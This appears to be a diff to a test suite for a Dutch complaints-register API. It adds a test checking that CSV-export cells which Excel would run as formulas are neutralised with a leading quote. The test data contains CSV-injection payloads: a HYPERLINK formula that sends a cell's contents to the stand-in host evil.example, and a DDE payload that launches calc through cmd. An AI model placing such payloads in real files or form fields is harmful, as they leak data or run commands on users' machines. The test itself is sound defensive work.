@@ -316,12 +316,34 @@ describe('the HTTP API on a real dev server and worker', () => {
       expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
       const lines = bytes.subarray(3).toString('utf8').split('\r\n');
       expect(lines[0]).toBe(
-        'kenmerk;procedure;status;status (NL);uitkomst;datum ontvangen;geregistreerd door;kanaal;type klager;naam;adres;postcode;woonplaats;e-mail;telefoon;categorie;omschrijving;betrokkenen;behandelaar;datum standpunt;wijze van afhandeling;oorzaak;preventieve maatregelen;termijnen overschreden;correspondentie;datum afgehandeld;vernietigen op',
+        'kenmerk;procedure;status;status (NL);uitkomst;datum ontvangen;geregistreerd door;kanaal;type klager;naam;adres;postcode;woonplaats;e-mail;telefoon;categorie;omschrijving;betrokkenen;behandelaar;datum standpunt;wijze van afhandeling;oorzaak;preventieve maatregelen;termijnen overschreden;termijnen verlengd;beroep;correspondentie;datum afgehandeld;vernietigen op',
       );
       const row = lines.find((l) => l.startsWith(reference))!;
       expect(row).toContain(';Zoë de Wit-Öztürk;Brink 3;1211 AA;Hilversum;zoe@example.nl;');
       expect(row).toContain(';in_progress;in behandeling;');
       expect(row).toContain(';henk;');
+      expect(row).toContain(';Voor het register;');
+    });
+
+    it('writes what Excel would run as a formula as text in the CSV', async () => {
+      const attacks = { name: '=HYPERLINK("https://evil.example/?x="&A1,"Klik")', description: '@SUM(1+1)*cmd|\' /C calc\'!A0', city: '+1+1', street: '-2+3' };
+      const { reference } = await file({
+        ...gooiconsult,
+        complainant: { ...gooiconsult.complainant, name: attacks.name, address: { street: attacks.street, postalCode: '1211 AA', city: attacks.city } },
+        description: attacks.description,
+      });
+      await act(reference, 'assign', { handler: 'henk' });
+      let row: string | undefined;
+      for (let i = 0; i < 50 && !row; i++) {
+        const csv = await (await call('GET', url('/api/admin/complaints.csv?handler=henk'), { token: staffTokens.hanna })).text();
+        row = csv.split('\r\n').find((l) => l.startsWith(reference));
+        if (!row) await new Promise((r) => setTimeout(r, 100));
+      }
+      const cells = row!.split(';');
+      for (const attack of Object.values(attacks)) {
+        const cell = cells.find((c) => c.replace(/^"|"$/g, '').replace(/""/g, '"').endsWith(attack));
+        expect(cell?.replace(/^"/, '')).toMatch(/^'/);
+      }
     });
 
     it('serves the analysis of a quarter or a year to managers only', async () => {
